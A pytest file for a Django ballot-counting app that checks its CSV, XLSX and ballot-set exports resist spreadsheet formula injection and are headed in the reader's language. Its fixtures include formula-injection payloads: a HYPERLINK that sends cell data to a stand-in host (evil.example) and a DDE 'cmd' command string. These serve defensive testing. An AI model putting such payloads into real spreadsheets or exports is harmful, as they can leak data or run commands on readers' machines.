"""The CSV and XLSX exports and the ballot set: safe to open in a spreadsheet, headed in the
reader's language, with numbers as numbers (issue 16, items 1 and 12)."""

from __future__ import annotations

import csv
import datetime
import io
import json
import zipfile

import pytest
from django.conf import settings
from django.urls import reverse
from openpyxl import load_workbook

from ballots import paper, services
from results import documents
from results import services as result_services
from results.frozen import session_result
from results.models import Certification
from results.spreadsheets import csv_cell, formula_like
from tests.built_once import built_once
from tests.factories import build_cast, link_head, open_session

# What a spreadsheet would run: each typed by somebody as a name and as a position.
FORMULAS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+84 912 345 678",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
]


@built_once
def counted():
    """The cast's session, voted and closed: 5 ballots, the second person 4 of 5 low."""
    cast = build_cast()
    codes = open_session(cast.session, cast.secretariat, codes=5, activate=5)
    candidates = list(cast.session.candidates.filter(excluded=False).order_by("order"))
    for code, levels in zip(
        codes,
        [
            ["high", "low", "medium"],
            ["high", "low", "medium"],
            ["high", "low", "medium"],
            ["medium", "low", "medium"],
            ["high", "medium", "low"],
        ],
        strict=True,
    ):
        services.ballot_cast(
            raw=code, choices={c.pk: lv for c, lv in zip(candidates, levels, strict=True)}
        )
    services.session_close(actor=cast.secretariat, session=cast.session)
    cast.session.refresh_from_db()
    return cast


@built_once
def formula_tally():
    """A paper tally whose names and positions all start like a formula, certified."""
    cast = build_cast()
    rows = [
        paper.TallyRow(
            line=i,
            order=i,
            full_name=formula,
            position=formula,
            counts={"high": 30, "medium": 10, "low": 8},
            invalid=0,
        )
        for i, formula in enumerate(FORMULAS, start=1)
    ]
    session = paper.tally_import(
        actor=cast.secretariat,
        organization=cast.org,
        title="Kỳ họp thử",
        regime="nq96",
        procedure="rating",
        date=datetime.date(2026, 12, 7),
        rows=rows,
        collected=48,
        issued=48,
        present=48,
    )
    link_head(session, cast.secretariat, cast.committee)
    result_services.result_certify(actor=cast.committee, session=session)
    session.refresh_from_db()
    cast.session = session
    return cast


def _get(client, user, name, *args, language="vi"):
    client.force_login(user)
    client.cookies[settings.LANGUAGE_COOKIE_NAME] = language
    response = client.get(reverse(name, args=args))
    assert response.status_code == 200
    return response.content


def _csv(content: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(content.decode("utf-8-sig"), newline="")))


def _xlsx(content: bytes):
    return load_workbook(io.BytesIO(content)).active


# --- Item 1: formula injection ------------------------------------------------------------------


def test_a_cell_is_formula_like_when_a_spreadsheet_would_compute_it():
    assert all(formula_like(f) for f in FORMULAS)
    assert not any(formula_like(t) for t in ["Nguyễn Văn An", "Chủ tịch", "", "a=b", "71.43"])
    assert csv_cell("=1+1") == "'=1+1" and csv_cell("An") == "An"
    assert csv_cell(-3) == -3  # numbers are numbers, never text


def test_names_and_positions_that_start_like_a_formula_are_text_in_the_csv_export(
    client, formula_tally
):
    content = _get(client, formula_tally.leader, "results:export", formula_tally.session.pk, "csv")
    body = _csv(content)[1:]
    assert [row[1] for row in body] == ["'" + f for f in FORMULAS]
    assert all(row[2].startswith("'") for row in body)
    # Nothing else in the row was touched.
    assert body[0][3:5] == ["30", "62.50"]


def test_names_and_positions_that_start_like_a_formula_are_string_cells_in_the_xlsx_export(
    client, formula_tally
):
    content = _get(client, formula_tally.leader, "results:export", formula_tally.session.pk, "xlsx")
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        xml = archive.read("xl/worksheets/sheet1.xml")
    assert b"<f>" not in xml
    sheet = _xlsx(content)
    cells = [cell for row in sheet.iter_rows() for cell in row]
    assert "f" not in {cell.data_type for cell in cells}
    names = [row[1] for row in sheet.iter_rows(min_row=2)]
    positions = [row[2] for row in sheet.iter_rows(min_row=2)]
    for cell, formula in zip(names, FORMULAS, strict=True):
        # The visible text as typed (XML turns a lone CR into a line feed).
        # A carriage return survives when openpyxl writes through lxml (installed with
        # python-docx), which escapes it; the standard library's writer lets the XML parser
        # turn it into a line feed. Either way the cell is text, never a formula.
        assert cell.data_type == "s"
        assert cell.value in {formula, formula.replace("\r", "\n")}
        assert cell.quotePrefix  # editing the cell in Excel keeps it text
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in positions)


def test_a_tally_sheets_ballot_set_certified_now_holds_formula_like_names_behind_an_apostrophe(
    client, formula_tally
):
    content = _get(client, formula_tally.committee, "results:ballot_set", formula_tally.session.pk)
    rows = _csv(content)
    assert rows[0] == ["order", "name", "level", "count"]
    assert len(rows) == 1 + 4 * len(FORMULAS)  # three levels and "invalid" per person
    assert {row[1] for row in rows[1:]} == {"'" + f for f in FORMULAS}
    certification = Certification.objects.get(session=formula_tally.session)
    assert documents.sha256(content) == certification.ballot_set_sha256


def test_a_ballot_set_certified_before_the_apostrophes_is_still_served_as_stored(
    client, formula_tally
):
    """Frozen documents are never rewritten: an older raw ballot set still matches its SHA-256."""
    old = b'order,name,level,count\n1,"=HYPERLINK(""http://evil.example"",""x"")",high,30\n'
    Certification.objects.filter(session=formula_tally.session).update(
        ballot_set_csv=old, ballot_set_sha256=documents.sha256(old)
    )
    content = _get(client, formula_tally.committee, "results:ballot_set", formula_tally.session.pk)
    assert content == old


def test_an_electronic_ballot_set_holds_no_free_text_and_keeps_its_format(counted):
    ballot_set = documents.ballot_set_csv(counted.session, session_result(counted.session))
    rows = _csv(ballot_set)
    assert rows[0] == ["ballot", "1", "2", "3"]
    assert {cell for row in rows[1:] for cell in row} <= {
        "valid",
        "invalid",
        "high",
        "medium",
        "low",
        "",
    }
    assert b"\r" not in ballot_set and b"'" not in ballot_set


# --- Item 12: headers in the reader's language, bands in words, numbers as numbers -------------

VI_HEADER = [
    "STT",
    "Họ và tên",
    "Chức vụ",
    "Tín nhiệm cao (số phiếu)",
    "Tín nhiệm cao (tỷ lệ %)",
    "Tín nhiệm (số phiếu)",
    "Tín nhiệm (tỷ lệ %)",
    "Tín nhiệm thấp (số phiếu)",
    "Tín nhiệm thấp (tỷ lệ %)",
    "Không hợp lệ (số phiếu)",
    "Không hợp lệ (tỷ lệ %)",
    "Mức ngưỡng",
    "Mẫu số",
]
EN_HEADER = [
    "No.",
    "Full name",
    "Position(s)",
    "High confidence (votes)",
    "High confidence (%)",
    "Confidence (votes)",
    "Confidence (%)",
    "Low (votes)",
    "Low (%)",
    "Invalid lines (votes)",
    "Invalid lines (%)",
    "Band",
    "Denominator",
]


@pytest.mark.parametrize(
    ("language", "header", "bands"),
    [
        (
            "vi",
            VI_HEADER,
            ["Không rơi vào mức ngưỡng", "Từ hai phần ba trở lên tín nhiệm thấp"],
        ),
        ("en", EN_HEADER, ["Not in a band", "Two thirds or more low confidence"]),
    ],
)
def test_the_exports_are_headed_in_the_readers_language_with_bands_in_words(
    client, counted, language, header, bands
):
    pk = counted.session.pk
    rows = _csv(_get(client, counted.leader, "results:export", pk, "csv", language=language))
    assert rows[0] == header
    assert [rows[1][11], rows[2][11]] == bands
    assert rows[2][7:9] == ["4", "80.00"]  # CSV is a machine format: a dot
    sheet = _xlsx(_get(client, counted.leader, "results:export", pk, "xlsx", language=language))
    assert [cell.value for cell in sheet[1]] == header
    assert [sheet["L2"].value, sheet["L3"].value] == bands
    text = json.dumps([[c.value for c in row] for row in sheet.iter_rows()])
    for code in ("high_percent", "over_half", "two_thirds", "none", "order"):
        assert code not in text


def test_xlsx_counts_and_percentages_are_numbers_with_a_percent_format(client, counted):
    sheet = _xlsx(_get(client, counted.leader, "results:export", counted.session.pk, "xlsx"))
    count, share = sheet["H3"], sheet["I3"]  # the second person's "low": 4 of 5
    assert (count.value, count.data_type) == (4, "n")
    assert (share.value, share.data_type, share.number_format) == (0.8, "n", "0.00%")
    first_high = sheet["E2"]
    assert (first_high.value, first_high.number_format) == (0.8, "0.00%")
    assert sheet["M2"].value == 5 and sheet["M2"].data_type == "n"


def test_the_json_document_keeps_its_english_keys_and_dotted_percentages(counted):
    result = session_result(counted.session)
    document = documents.result_json(result)
    second = document["candidates"][1]
    assert second["percent"] == {
        "high": "0.00",
        "medium": "20.00",
        "low": "80.00",
        "invalid": "0.00",
    }
    assert second["band"] == "two_thirds"
